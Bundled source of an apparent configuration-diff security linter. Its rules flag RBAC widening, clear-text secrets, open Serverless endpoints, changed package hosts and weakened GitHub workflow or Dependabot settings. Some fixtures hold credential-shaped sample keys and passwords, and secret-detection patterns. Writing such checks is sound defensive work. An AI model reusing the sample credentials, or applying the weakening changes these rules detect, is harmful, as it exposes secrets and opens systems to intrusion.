    equivalents: ["kube-linter:wildcard-in-rules"],
    grant: 'apiGroups: [apps.example.com], resources: ["*"], verbs: [get]'
  }),
  powerRule({
    id: "reroute",
    power: "reroute",
    title: "role may redirect traffic or relabel namespaces",
    why: "Endpoints and service status decide where traffic goes; labels of a namespace decide which security level holds there.",
    fix: LEAST2,
    cluster: "medium",
    namespace: "medium",
    equivalents: ["checkov:CKV2_K8S_4"],
    grant: 'apiGroups: [""], resources: [endpoints], verbs: [update]'
  }),
  powerRule({
    id: "urls",
    power: "url",
    title: "role may read URLs of the API server",
    why: "Metrics, logs and debug pages tell much of the cluster and its users.",
    fix: "List the URLs the holder reads.",
    cluster: "medium",
    namespace: "low",
    grant: "nonResourceURLs: [/metrics], verbs: [get]"
  }),
  powerRule({
    id: "delete",
    power: "delete",
    title: "role may delete",
    why: "A mistake or a takeover of the holder now destroys objects.",
    fix: LEAST2,
    cluster: "medium",
    namespace: "medium",
    grant: 'apiGroups: [""], resources: [configmaps], verbs: [delete]'
  }),
  powerRule({
    id: "write",
    power: "write",
    title: "role may write more",
    why: "A mistake or a takeover of the holder now changes these objects.",
    fix: LEAST2,
    cluster: "medium",
    namespace: "medium",
    grant: 'apiGroups: [""], resources: [configmaps], verbs: [update]'
  }),
  powerRule({
    id: "read",
    power: "read",
    title: "role may read more",
    why: "The holder, and whoever takes it over, now sees these objects.",
    fix: LEAST2,
    cluster: "medium",
    namespace: "low",
    grant: 'apiGroups: [""], resources: [pods], verbs: [list]'
  }),
  powerRule({
    id: "signal",
    power: "signal",
    title: "role may record events",
    why: "The holder may write events, hold leases or ask the API server who may do what; little harm comes of it.",
    fix: LEAST2,
    cluster: "info",
    namespace: "info",
    grant: 'apiGroups: [""], resources: [events], verbs: [create, patch]'
  })
];

// src/domains/config/rules/rbac/role-narrowed.ts
var role5 = (verbs, names2 = "") => `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: reader }
rules:
  - { apiGroups: [""], resources: [pods]${names2}, verbs: [${verbs}] }
`;
var role_narrowed_default = configRule({
  id: "config/role-narrowed",
  on: "role-narrowed",
  class: "hardening",
  title: "role may do less",
  why: "Whoever takes over a holder can do less harm.",
  fix: "Check that no holder still needs what is gone.",
  outcomes: {
    narrowed: {
      risk: "info",
      message: ({ role: name, lost }) => `\`${name}\` gives up ${lost} of its rights and gains none.`
    }
  },
  examples: [
    { before: role5("get, list, delete"), after: role5("get, list"), outcome: "narrowed" },
    { before: role5("get"), after: role5("get", ", resourceNames: [web]"), outcome: "narrowed" },
    { before: role5("get, list"), after: role5("list, get"), outcome: "none" },
    { before: role5("get"), after: "", outcome: "none" },
    { before: role5("get, list"), after: role5("get, update"), outcome: "none" }
  ],
  classify: () => "narrowed"
});

// src/domains/config/rules/secret-written.ts
var said5 = ({ name, looks, inComment }) => looks === "secret by its name" ? `\`${name}\` holds a secret in clear text.` : `${inComment ? "A comment" : `\`${name}\``} holds what looks like ${/^[aeio]/i.test(looks) ? "an" : "a"} ${looks} in clear text.`;
var secret_written_default = configRule({
  id: "config/secret-written",
  on: "secret-written",
  class: "secret",
  title: "secret in clear text",
  why: "Everybody who can read the repository, now or later in its history, has it.",
  fix: "Revoke it, issue a new one, and refer to where it is kept (a secret store, an environment variable).",
  outcomes: {
    credential: { risk: "critical", message: said5 },
    instead: {
      risk: "critical",
      title: "secret in place of its reference",
      message: ({ name }) => `\`${name}\` referred to a secret and now holds it in clear text.`
    },
    login: { risk: "high", message: said5 },
    named: { risk: "high", message: said5 }
  },
  examples: [
    { before: "name: app", after: "name: app\nkey: AKIAQ7XJ2LM4RWTZ3KPB", outcome: "credential" },
    { before: "name: app", after: "name: app # AKIAQ7XJ2LM4RWTZ3KPB", outcome: "credential" },
    { before: 'db: { password: "${DB_PASSWORD}" }', after: "db: { password: vK8x2mQ9zL }", outcome: "instead" },
    { before: "name: app", after: "name: app\ndsn: postgres://app:vK8x2mQ9zL@db.acme.com/app", outcome: "login" },
    { before: "name: app", after: "name: app\napi_key: vK8x2mQ9zL4w", outcome: "named" },
    { before: "name: app", after: 'name: app\napi_key: "${API_KEY}"', outcome: "none" },
    { before: "name: app", after: "name: app\npassword: changeme", outcome: "none" },
    { before: "name: app", after: "name: app\n# password: vK8x2mQ9zL", outcome: "none" },
    { before: "name: app", after: "name: app\npasswordSecretName: app-database", outcome: "none" },
    { before: "api_key: vK8x2mQ9zL4w", after: "api_key: vK8x2mQ9zL4w\nname: app", outcome: "none" }
  ],
  classify(change) {
    if (change.wasReference) return "instead";
    if (change.by === "name") return "named";
    return isLogin(change.looks) ? "login" : "credential";
  }
});

// src/domains/config/rules/serverless/functions.ts
var path14 = "serverless.yml";
var dialect22 = "serverless";
var service5 = (lines, provider = "") => `service: shop
provider:
  name: aws
${provider === "" ? "" : `  ${provider}
`}functions:
  buy:
    handler: a.b
${lines === "" ? "" : `    ${lines}
`}`;
var http = (lines) => service5(`events: [{ http: { path: a, method: get${lines} } }]`);
var ENDED = /^(?:nodejs(?:4\.3|6\.10|8\.10|1[0-8]\.x)|nodejs|python(?:2\.7|3\.[6-8])|ruby2\.[57]|java8|go1\.x|provided|dotnetcore[123]\.\d|dotnet[567])$/;
function url(node) {
  if (node.kind === "map") return Number(at(node, "authorizer") !== void 0);
  return switchOf(node) === void 0 ? void 0 : Number(switchOf(node) !== true);
}
var count2 = (node) => node.kind === "scalar" && /^\d{1,6}$/.test(node.text) ? Number(node.text) : void 0;
var origins3 = (node) => {
  if (node.kind === "map") return void 0;
  return Number(switchOf(node) !== true && !textsOf(node).includes("*"));
};
var isCors = (setting) => either(inEvent("cors"), inFunction("cors"), inFunction("url", "cors"), inFunction("httpApi", "cors"))(setting) || /\.cors\.(?:origins?|allowedOrigins)$/.test(setting.keys.join("."));
var functions_default = [
  control({
    id: "config/function-url-open",
    class: "exposure",
    title: "function open to everybody",
    why: "Anybody on the internet may run it, with the rights of its role and at your cost.",
    fix: "Set `authorizer: aws_iam`.",
    equivalents: ["checkov:CKV_AWS_258"],
    dialect: dialect22,
    governs: inFunction("url"),
    rank: url,
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("function asks who calls")
    },
    refine: ({ transition }) => transition === "template" || transition === "drop" ? void 0 : transition,
    examples: [
      { path: path14, before: service5("url: { authorizer: aws_iam }"), after: service5("url: true"), outcome: "flip" },
      { path: path14, before: service5(""), after: service5("url: true"), outcome: "open" },
      { path: path14, before: "", after: service5("url: true"), outcome: "born" },
      { path: path14, before: service5("url: true"), after: service5("url: { authorizer: aws_iam }"), outcome: "hardened" },
      { path: path14, before: service5(""), after: service5("url: { authorizer: aws_iam }"), outcome: "none" }
    ]
  }),
  control({
    id: "config/function-caller-unchecked",
    class: "permission-widening",
    title: "endpoint no longer asks who calls",
    why: "Anybody on the internet may call it.",
    fix: "Keep the authorizer, or the key.",
    equivalents: ["checkov:CKV_AWS_59"],
    dialect: dialect22,
    governs: either(inEvent("authorizer"), inEvent("private"), inFunction("url", "authorizer")),
    rank: (node) => node.kind === "scalar" ? Number(switchOf(node) !== false && node.text !== "none") : 1,
    absent: 0,
    byPresence: true,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("endpoint asks who calls") },
    examples: [
      { path: path14, before: http(", private: true"), after: http(", private: false"), outcome: "flip" },
      { path: path14, before: http(", authorizer: aws_iam"), after: http(""), outcome: "drop" },
      { path: path14, before: http(""), after: http(", private: true"), outcome: "hardened" },
      { path: path14, before: http(", authorizer: a"), after: http(", authorizer: b"), outcome: "none" }
    ]
  }),
  control({
    id: "config/function-any-origin",
    class: "exposure",
    title: "any origin may call an endpoint",
    why: "Any web page that a user opens can call it from their browser.",
    fix: "List the origins that need it.",
    dialect: dialect22,
    governs: isCors,
    rank: origins3,
    absent: 1,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      born: moved2("low"),
      hardened: hardened("origins listed")
    },
    refine: ({ transition }) => transition === "template" || transition === "drop" ? void 0 : transition,
    examples: [
      {
        path: path14,
        before: service5("", "httpApi: { cors: { allowedOrigins: [https://a.example] } }"),
        after: service5("", "httpApi: { cors: { allowedOrigins: ['*'] } }"),
        outcome: "flip"
      },
      { path: path14, before: http(""), after: http(", cors: true"), outcome: "open" },
      { path: path14, before: "", after: http(", cors: true"), outcome: "born" },
      { path: path14, before: http(", cors: true"), after: http(""), outcome: "hardened" },
      { path: path14, before: http(""), after: http(", cors: { origins: [https://a.example] }"), outcome: "none" }
    ]
  }),
  control({
    id: "config/function-runtime-ended",
    class: "supply-chain",
    title: "runtime without patches",
    why: "AWS no longer mends holes in this runtime, and at some point refuses to update the function.",
    fix: "Use a runtime that is supported.",
    equivalents: ["checkov:CKV_AWS_363"],
    dialect: dialect22,
    governs: inFunction("runtime"),
    rank: (node) => node.kind === "scalar" ? Number(!ENDED.test(node.text)) : void 0,
    absent: 1,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      born: moved2("low"),
      hardened: hardened("runtime that is patched")
    },
    refine: ({ transition }) => transition === "template" || transition === "drop" ? void 0 : transition,
    examples: [
      { path: path14, before: service5("runtime: nodejs22.x"), after: service5("runtime: nodejs12.x"), outcome: "flip" },
      { path: path14, before: service5(""), after: service5("runtime: python3.7"), outcome: "open" },
      { path: path14, before: "", after: service5("runtime: python3.7"), outcome: "born" },
      { path: path14, before: service5("runtime: nodejs12.x"), after: service5("runtime: nodejs22.x"), outcome: "hardened" },
      { path: path14, before: service5("runtime: nodejs22.x"), after: service5("runtime: nodejs24.x"), outcome: "none" }
    ]
  }),
  control({
    id: "config/function-room-lowered",
    class: "availability",
    title: "function given less time or memory",
    why: "Calls that take longer or need more are cut off in the middle.",
    fix: "Leave room for the slowest call.",
    dialect: dialect22,
    governs: either(inFunction("timeout"), inFunction("memorySize"), inFunction("reservedConcurrency")),
    rank: count2,
    outcomes: { flip: moved2("low") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { path: path14, before: service5("timeout: 30"), after: service5("timeout: 3"), outcome: "flip" },
      { path: path14, before: service5("memorySize: 128"), after: service5("memorySize: 256"), outcome: "none" },
      { path: path14, before: service5("timeout: 30"), after: service5(""), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/source-changed.ts
var FETCHED = /(?:^|-)(?:registry-url|index-url|extra-index-url|mirror|mirrors|registry-mirror|package-source|npm-registry|goproxy|source-registry)$/;
var SENT = /(?:^|-)(?:webhook|webhook-url|callback|callback-url|remote-write-url|smtp-host|proxy|http-proxy|https-proxy|proxy-url|issuer|issuer-url|authority)$/;
var hostOf = (text) => /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?([\w-]+(?:\.[\w-]+)+)(?:[:/]|$)/i.exec(text)?.[1];
var source_changed_default = configRule({
  id: "config/source-changed",
  on: "value-changed",
  class: "supply-chain",
  title: "other host",
  why: "Whoever runs the new host decides what is installed from it.",
  fix: "Make sure that the host is yours or trusted, and pin what comes from it by digest.",
  outcomes: {
    fetched: {
      risk: "high",
      message: ({ name, from: from3, to }) => `\`${name}\` goes from \`${from3}\` to \`${to}\`, another host.`
    },
    sent: {
      risk: "medium",
      message: ({ name, from: from3, to }) => `\`${name}\` goes from \`${from3}\` to \`${to}\`, another host.`,
      why: "What was sent to the old host, credentials included, is sent to the new one.",
      fix: "Make sure that the host is yours or trusted."
    }
  },
  examples: [
    {
      before: "index-url: https://pypi.org/simple",
      after: "index-url: https://pypi.acme.org/simple",
      outcome: "fetched"
    },
    { before: "webhook_url: https://a.acme.com/x", after: "webhook_url: https://b.acme.org/x", outcome: "sent" },
    { before: "registry: npm.acme.com", after: "registry: npm.acme.org", outcome: "fetched" },
    {
      path: ".github/workflows/ci.yml",
      before: "on: push\njobs: { a: { uses: ./.github/workflows/push.yml, with: { registry: docker.io } } }",
      after: "on: push\njobs: { a: { uses: ./.github/workflows/push.yml, with: { registry: ghcr.io } } }",
      outcome: "sent"
    },
    { before: "index-url: https://pypi.org/simple", after: "index-url: https://pypi.org/simple/", outcome: "none" },
    { before: "image: a.acme.com/web:1", after: "image: b.acme.com/web:1", outcome: "none" }
  ],
  classify({ name, from: from3, to, dialect: dialect30 }) {
    const [old, now] = [hostOf(from3), hostOf(to)];
    if (old === void 0 || now === void 0 || old === now) return void 0;
    const words2 = wordsOf(name).join("-");
    if (FETCHED.test(words2)) return "fetched";
    if (words2 === "registry" && dialect30 !== "helm-values" && dialect30 !== "kubernetes")
      return dialect30 === "github-workflow" ? "sent" : "fetched";
    return SENT.test(words2) ? "sent" : void 0;
  }
});

// src/domains/config/rules/type-changed.ts
var said6 = ({ subject, from: from3, to }) => `\`${subject}\` was a ${from3} and is now a ${to}.`;
var PUBLIC4 = { config: { isPublic: () => true } };
var type_changed_default = configRule({
  id: "config/type-changed",
  on: "type-changed",
  class: "type-changed",
  title: "type changed",
  why: "A reader that expects the old type fails to start, or falls back to its default.",
  fix: "Keep the type, or change the readers in the same step.",
  outcomes: {
    shape: { risk: "medium", message: said6 },
    public: { risk: "high", message: said6 },
    empty: {
      risk: "low",
      message: ({ subject, from: from3, to }) => `\`${subject}\` was an empty ${from3} and is now an empty ${to}.`,
      why: "Who fills it with the old kind is warned, or refused.",
      fix: "Say in the release notes which kind it takes."
    },
    spelling: {
      risk: "low",
      message: ({ subject, from: from3, to }) => `\`${subject}\` keeps its text, but was a ${from3} and is now a ${to}.`,
      why: "Readers that are strict about types refuse it; others do not notice."
    }
  },
  examples: [
    { before: "a: { b: 1, c: 2 }", after: "a: [b, c]", settings: PUBLIC4, outcome: "public" },
    { before: "a: { b: 1 }", after: "a: text", outcome: "shape" },
    { before: "a: { b: {}, c: 1 }", after: "a: { b: [], c: 1 }", outcome: "empty" },
    { before: "port: 8080", after: 'port: "8080"', outcome: "spelling" },
    { path: ".golangci.yml", before: "a: { b: 1 }", after: "a: text", outcome: "none" },
    { before: "port: 8080", after: "port: '{{ .Values.port }}'", outcome: "none" },
    { before: "a: x", after: "a: [x]", outcome: "none" },
    {
      path: ".github/workflows/ci.yml",
      before: "on: [push]\njobs: {}",
      after: "on: { push: {} }\njobs: {}",
      outcome: "none"
    },
    { before: "a:", after: "a: { b: 1 }", outcome: "none" }
  ],
  classify({ from: from3, to, isEmpty: isEmpty2, isPublic: isPublic2, dialect: dialect30, before: before3 }) {
    if (dialect30 !== void 0 && dialect30 !== "helm-values") return void 0;
    if (!isPublic2 && isTooling(before3?.path)) return void 0;
    if (from3 !== "map" && to !== "map") return "spelling";
    if (isPublic2) return "public";
    return isEmpty2 ? "empty" : "shape";
  }
});

// src/domains/config/rules/value-misspelt.ts
var WORD2 = /^[a-z]{4,16}$/;
var lettersOf = (word) => word.split("").toSorted().join("");
function isSlip({ from: from3, to }) {
  if (!WORD2.test(from3) || !WORD2.test(to) || from3.charAt(0) !== to.charAt(0)) return false;
  const isSwap = from3.length === to.length && lettersOf(from3) === lettersOf(to);
  const isStutter = to.length === from3.length + 1 && /(.)\1/.test(to) && distance(from3, to) === 1;
  return isSwap || isStutter;
}
var value_misspelt_default = configRule({
  id: "config/value-misspelt",
  on: "value-changed",
  class: "compatibility",
  title: "value looks misspelt",
  why: "A program that does not know the word fails, or takes its default without a sign.",
  fix: "Check the word against the list of values the program takes.",
  outcomes: {
    slip: { risk: "info", message: (c) => `\`${c.name}\` goes from \`${c.from}\` to \`${c.to}\`.` }
  },
  examples: [
    { before: "mode: fast", after: "mode: fats", outcome: "slip" },
    { before: "mode: slow", after: "mode: sloow", outcome: "slip" },
    { before: "mode: fast", after: "mode: slow", outcome: "none" },
    { before: "mode: fast", after: "mode: faster", outcome: "none" }
  ],
  classify: (change) => isSlip(change) ? "slip" : void 0
});

// src/domains/config/workflows/examples.ts
var job3 = (lines = "", head = "on: push") => `${head}
jobs:
  build:
    runs-on: ubuntu-latest${indented4(4, lines)}
    steps:
      - { name: Build, run: make }
`;
var step = (lines = "", head = "on: push") => `${head}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - name: Build${indented4(8, lines)}
`;
var indented4 = (columns, lines) => lines === "" ? "" : `
${lines}`.replaceAll("\n", `
${" ".repeat(columns)}`);

// src/domains/config/workflows/paths.ts
var inStep = (...tail2) => ({ keys }) => {
  const above = keys.slice(0, keys.length - tail2.length);
  const isStep = above.length === 3 && above[2] === "steps" || above.join() === "runs,steps";
  return isStep && tail2.every((name, i) => keys[above.length + i] === name);
};
var inJob2 = (...tail2) => ({ keys }) => keys.length === 2 + tail2.length && keys[0] === "jobs" && tail2.every((name, i) => keys[2 + i] === name);

// src/domains/config/rules/workflow/checkouts.ts
var path15 = ".github/workflows/ci.yml";
var dialect23 = "github-workflow";
var checkouts_default = [
  control({
    id: "config/workflow-unsafe-checkout",
    class: "permission-widening",
    title: "guard against strangers\u2019 code switched off",
    why: "The checkout may now bring in the code of a pull request where secrets and a token that may write are at hand.",
    fix: "Remove `allow-unsafe-pr-checkout`, and build strangers\u2019 code on `pull_request`.",
    dialect: dialect23,
    governs: inStep("with", "allow-unsafe-pr-checkout"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "guard against strangers\u2019 code switched on",
      weak: "uses: actions/checkout@v6\nwith: { allow-unsafe-pr-checkout: true }",
      safe: "uses: actions/checkout@v6\nwith: { allow-unsafe-pr-checkout: false }",
      path: path15,
      file: step
    })
  }),
  control({
    id: "config/workflow-credentials-kept",
    class: "secret",
    title: "token left behind by the checkout",
    why: "The token stays in the working copy, where every later step and every uploaded artifact of it can hold it.",
    fix: "Set `persist-credentials: false` again, unless a later step pushes.",
    equivalents: ["zizmor:artipacked"],
    dialect: dialect23,
    governs: inStep("with", "persist-credentials"),
    rank: safeOff,
    ...safeWhenSet({
      risk: "medium",
      praise: "token no longer left behind by the checkout",
      weak: "uses: actions/checkout@v6\nwith: { persist-credentials: true }",
      safe: "uses: actions/checkout@v6\nwith: { persist-credentials: false }",
      path: path15,
      file: (lines) => step(lines === "" ? "uses: actions/checkout@v6" : lines)
    })
  })
];

// src/domains/config/rules/workflow/conditions.ts
var path16 = ".github/workflows/ci.yml";
var WHO = /\bgithub\.(?:actor|repository_owner|triggering_actor|event\.(?:sender|pull_request\.(?:head\.repo|user|author_association)|comment\.(?:user|author_association)|issue\.(?:user|author_association)|workflow_run\.(?:actor|head_repository)))\b/;
var SAME_REPOSITORY = "if: github.event.pull_request.head.repo.full_name == github.repository";
var conditions_default = control({
  id: "config/workflow-condition-removed",
  class: "permission-widening",
  title: "condition on who may start a job removed",
  why: "Strangers whose runs were skipped now run the job, with the rights its trigger gives.",
  fix: "Keep the condition.",
  dialect: "github-workflow",
  governs: (setting) => either(inJob2("if"), inStep("if"))(setting) && !isInReview(setting),
  rank: (node) => node.kind === "scalar" ? Number(WHO.test(node.text)) : void 0,
  absent: 0,
  // A condition is an expression, in `${{ }}` or without.
  byPresence: true,
  outcomes: { flip: moved2("medium"), drop: moved2("medium"), hardened: hardened("condition on who may start a job") },
  examples: [
    { path: path16, before: job3(SAME_REPOSITORY), after: job3(), outcome: "drop" },
    { path: path16, before: job3("if: github.actor == 'octocat'"), after: job3("if: always()"), outcome: "flip" },
    { path: path16, before: job3("if: ${{ github.actor == 'octocat' }}"), after: job3("if: always()"), outcome: "flip" },
    { path: path16, before: job3(), after: job3("if: github.actor == 'octocat'"), outcome: "hardened" },
    { path: path16, before: job3("if: ${{ matrix.os == 'linux' }}"), after: job3("if: matrix.os != 'mac'"), outcome: "none" },
    { path: path16, before: job3("if: always()"), after: job3(), outcome: "none" },
    { path: path16, before: job3(SAME_REPOSITORY), after: "", outcome: "none" }
  ]
});

// src/domains/config/rules/workflow/contracts.ts
var path17 = ".github/workflows/release.yml";
var dialect24 = "github-workflow";
var CONTRACT = ["inputs", "outputs", "secrets"];
var called3 = (inputs) => `on:
  workflow_call:
    inputs: ${inputs}
jobs:
  release: { runs-on: ubuntu-latest, steps: [{ run: make }] }
`;
var action = (inputs) => `name: Build
inputs: ${inputs}
runs: { using: composite, steps: [{ run: make, shell: sh }] }
`;
function isPart2({ keys, document }) {
  if (keys[0] === "on") return keys.length === 4 && keys[1] === "workflow_call" && CONTRACT.includes(keys[2] ?? "");
  return keys.length === 2 && CONTRACT.includes(keys[0] ?? "") && at(document.after?.root, "runs") !== void 0;
}
function readersOf2(file = "") {
  if (!/(?:^|\/)\.github\//.test(file)) return "published";
  return file.includes(".github/actions/") ? "internal" : "reusable";
}
var isFieldOf = (name) => (setting) => setting.keys.at(-1) === name && setting.ownerBefore !== void 0 && setting.ownerAfter !== void 0 && isPart2({ ...setting, keys: setting.keys.slice(0, -1) });
function asks2(node, { ownerAfter, ownerBefore, before: before3 }) {
  if (node.kind !== "scalar") return Number(switchOf(at(node, "required")) !== true || hasDefault(node));
  return Number(switchOf(node) !== true || hasDefault(node === before3 ? ownerBefore : ownerAfter));
}
var hasDefault = (node) => textAt(node, "default") !== void 0;
var typeIs = (...types) => (type) => type?.kind === "scalar" && types.includes(type.text);
var isText = typeIs("string");
var isListed = typeIs("choice", "environment");
var calledBy = (subject) => `\`${subject.split(".").at(-2) ?? subject}\``;
var contracts_default = [
  control({
    id: "config/workflow-input-removed",
    class: "compatibility",
    title: "input or output of a workflow removed",
    why: "Callers that pass or read it fail, from their next run on.",
    fix: "Keep it until no caller uses it, or publish a new major version.",
    dialect: dialect24,
    governs: isPart2,
    rank: () => 1,
    absent: 0,
    outcomes: {
      published: { risk: "high", message: (c) => `\`${c.name}\` was removed.` },
      reusable: { risk: "medium", message: (c) => `\`${c.name}\` was removed.` },
      internal: { risk: "info", message: (c) => `\`${c.name}\` was removed from an action of this repository.` }
    },
    refine: ({ transition, before: before3 }) => transition === "drop" ? readersOf2(before3?.path) : void 0,
    examples: [
      { path: path17, before: called3("{ target: { type: string } }"), after: called3("{}"), outcome: "reusable" },
      {
        path: "action.yml",
        before: action("{ target: {}, mode: {} }"),
        after: action("{ mode: {} }"),
        outcome: "published"
      },
      {
        path: ".github/actions/build/action.yml",
        before: action("{ target: {}, mode: {} }"),
        after: action("{ mode: {} }"),
        outcome: "internal"
      },
      {
        path: path17,
        before: called3("{ target: { type: string } }"),
        after: called3("{ target: { type: string, default: a } }"),
        outcome: "none"
      },
      { path: path17, before: called3("{}"), after: called3("{ target: { type: string } }"), outcome: "none" }
    ]
  }),
  control({
    id: "config/workflow-input-required",
    class: "compatibility",
    title: "workflow asks for a new input",
    why: "Callers that do not pass it fail, from their next run on.",
    fix: "Give it a default.",
    dialect: dialect24,
    governs: either(isPart2, isFieldOf("required")),
    rank: asks2,
    absent: 1,
    outcomes: {
      open: { risk: "high", message: (c) => `\`${c.name}\` is new and required.` },
      became: { risk: "high", message: (c) => `${calledBy(c.subject)} is now required.` }
    },
    refine: ({ transition, after, subject }) => {
      if (readersOf2(after?.path) === "internal") return void 0;
      if (transition !== "open" && transition !== "flip") return void 0;
      return subject.endsWith("required") ? "became" : "open";
    },
    examples: [
      { path: path17, before: called3("{}"), after: called3("{ target: { type: string, required: true } }"), outcome: "open" },
      {
        path: path17,
        before: called3("{}"),
        after: called3("{ target: { type: string, required: true, default: a } }"),
        outcome: "none"
      },
      {
        path: path17,
        before: called3("{ target: { type: string } }"),
        after: called3("{ target: { type: string, required: true } }"),
        outcome: "became"
      },
      { path: path17, before: "", after: called3("{ target: { type: string, required: true } }"), outcome: "none" }
    ]
  }),
  control({
    id: "config/workflow-input-retyped",
    class: "compatibility",
    title: "input of a workflow has another type",
    why: "Callers that pass a value of the old type fail, from their next run on.",
    fix: "Add a second input of the new type, and keep the old one until no caller passes it.",
    dialect: dialect24,
    governs: isFieldOf("type"),
    // What was one of some texts may still be given as a text.
    rank: (node, setting) => Math.max(untouched(node, setting), Number(isListed(setting.before) && isText(node))),
    outcomes: { flip: moved2("high") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      {
        path: path17,
        before: called3("{ target: { type: string } }"),
        after: called3("{ target: { type: number } }"),
        outcome: "flip"
      },
      {
        path: path17,
        before: called3("{ target: { type: string } }"),
        after: called3('{ target: { type: "string" } }'),
        outcome: "none"
      },
      {
        path: path17,
        before: called3("{ target: { type: choice } }"),
        after: called3("{ target: { type: string } }"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/workflow/dependabot.ts
var path18 = ".github/dependabot.yml";
var updates = (...entries) => `version: 2
updates:
${entries.map((entry4) => `  - { package-ecosystem: ${entry4} }
`).join("")}`;
var NPM = "npm, directory: /, schedule: { interval: weekly }";
var isDependabot = ({ document }) => /(?:^|\/)\.github\/dependabot\.ya?ml$/.test(document.path);
var inUpdates = (...tail2) => (setting) => setting.keys.length === 1 + tail2.length && endsWith(setting.keys, ["updates", ...tail2]) && isDependabot(setting);
var ecosystemOf = (entry4) => textAt(entry4, "package-ecosystem");
var isWatched = (node, { document }) => itemsAt(document.after?.root, "updates").some((entry4) => ecosystemOf(entry4) === ecosystemOf(node)) ? void 0 : 1;
var dependabot_default = [
  control({
    id: "config/dependabot-external-code",
    class: "supply-chain",
    title: "Dependabot may run code of dependencies",
    why: "A package runs its own code while Dependabot holds the credentials of private registries.",
    fix: "Keep `deny`, and update what needs more by hand.",
    equivalents: ["zizmor:dependabot-execution"],
    governs: inUpdates("insecure-external-code-execution"),
    rank: (node) => node.kind === "scalar" ? Number(node.text !== "allow") : void 0,
    absent: 1,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      born: moved2("low"),
      hardened: hardened("Dependabot runs no code")
    },
    examples: [
      {
        path: path18,
        before: updates(`${NPM}, insecure-external-code-execution: deny`),
        after: updates(`${NPM}, insecure-external-code-execution: allow`),
        outcome: "flip"
      },
      {
        path: path18,
        before: updates(NPM),
        after: updates(`${NPM}, insecure-external-code-execution: allow`),
        outcome: "open"
      },
      { path: path18, before: "", after: updates(`${NPM}, insecure-external-code-execution: allow`), outcome: "born" },
      {
        path: path18,
        before: updates(`${NPM}, insecure-external-code-execution: allow`),
        after: updates(NPM),
        outcome: "hardened"
      },
      { path: path18, before: updates(NPM), after: updates(`${NPM}, insecure-external-code-execution: deny`), outcome: "none" }
    ]
  }),
  control({
    id: "config/dependabot-cooldown-removed",
    class: "supply-chain",
    title: "releases taken the day they come out",
    why: "A release taken over by an attacker is proposed before anybody has found it out.",
    fix: "Keep a cooldown of a few days.",
    equivalents: ["zizmor:dependabot-cooldown"],
    governs: inUpdates("cooldown"),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: removed("medium", "cooldown"),
      hardened: added("releases wait before they are taken", "cooldown")
    },
    examples: [
      { path: path18, before: updates(`${NPM}, cooldown: { default-days: 7 }`), after: updates(NPM), outcome: "drop" },
      { path: path18, before: updates(NPM), after: updates(`${NPM}, cooldown: { default-days: 7 }`), outcome: "hardened" },
      {
        path: path18,
        before: updates(`${NPM}, cooldown: { default-days: 7 }`),
        after: updates(`${NPM}, cooldown: { default-days: 5 }`),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/dependabot-cooldown-shortened",
    class: "supply-chain",
    title: "releases taken sooner",
    why: "There is less time to find out that a release was taken over by an attacker.",
    fix: "Keep a week.",
    equivalents: ["zizmor:dependabot-cooldown"],
    governs: ({ keys, document, ...rest }) => keys.at(-2) === "cooldown" && (keys.at(-1) ?? "").endsWith("days") && isDependabot({ keys, document, ...rest }),
    rank: (node) => node.kind === "scalar" && /^\d{1,4}$/.test(node.text) ? Number(node.text) : void 0,
    outcomes: { flip: moved2("low"), hardened: hardened("releases wait longer") },
    examples: [
      {
        path: path18,
        before: updates(`${NPM}, cooldown: { default-days: 7 }`),
        after: updates(`${NPM}, cooldown: { default-days: 1 }`),
        outcome: "flip"
      },
      {
        path: path18,
        before: updates(`${NPM}, cooldown: { default-days: 1 }`),
        after: updates(`${NPM}, cooldown: { default-days: 7 }`),
        outcome: "hardened"
      },
      { path: path18, before: updates(NPM), after: updates(`${NPM}, cooldown: { default-days: 1 }`), outcome: "none" }
    ]
  }),
  control({
    id: "config/dependabot-ecosystem-removed",
    class: "supply-chain",
    title: "dependencies no longer updated",
    why: "Nobody proposes updates of these packages any more, and they grow old unseen.",
    fix: "Keep the entry, or name the tool that takes its place.",
    governs: (setting) => setting.path.at(-1)?.kind === "item" && inUpdates()(setting),
    rank: isWatched,
    absent: 0,
    outcomes: { drop: removed("medium", "entry of an ecosystem") },
    refine: ({ transition }) => transition === "drop" ? "drop" : void 0,
    examples: [
      { path: path18, before: updates(NPM, "docker, directory: /"), after: updates(NPM), outcome: "drop" },
      { path: path18, before: updates(NPM, NPM.replace("/", "/web")), after: updates(NPM), outcome: "none" },
      { path: path18, before: updates(NPM), after: updates(NPM, "docker, directory: /"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/workflow/guards.ts
var path19 = ".github/workflows/ci.yml";
var dialect25 = "github-workflow";
var guards_default3 = [
  control({
    id: "config/workflow-environment-removed",
    class: "permission-widening",
    title: "job no longer waits for its environment",
    why: "Required reviewers, wait times and branch rules of the environment no longer hold the job back.",
    fix: "Keep `environment` on jobs that deploy.",
    dialect: dialect25,
    governs: inJob2("environment"),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: removed("medium", "environment of the job"),
      hardened: added("job now waits for an environment", "environment of the job")
    },
    examples: [
      { path: path19, before: job3("environment: production"), after: job3(), outcome: "drop" },
      { path: path19, before: job3(), after: job3("environment: production"), outcome: "hardened" },
      {
        path: path19,
        before: job3("environment: production"),
        after: job3("environment: { name: production }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/workflow-commands-unsecured",
    class: "permission-widening",
    title: "unsafe workflow commands allowed",
    why: "Anything a step prints can set environment variables and paths for the steps after it.",
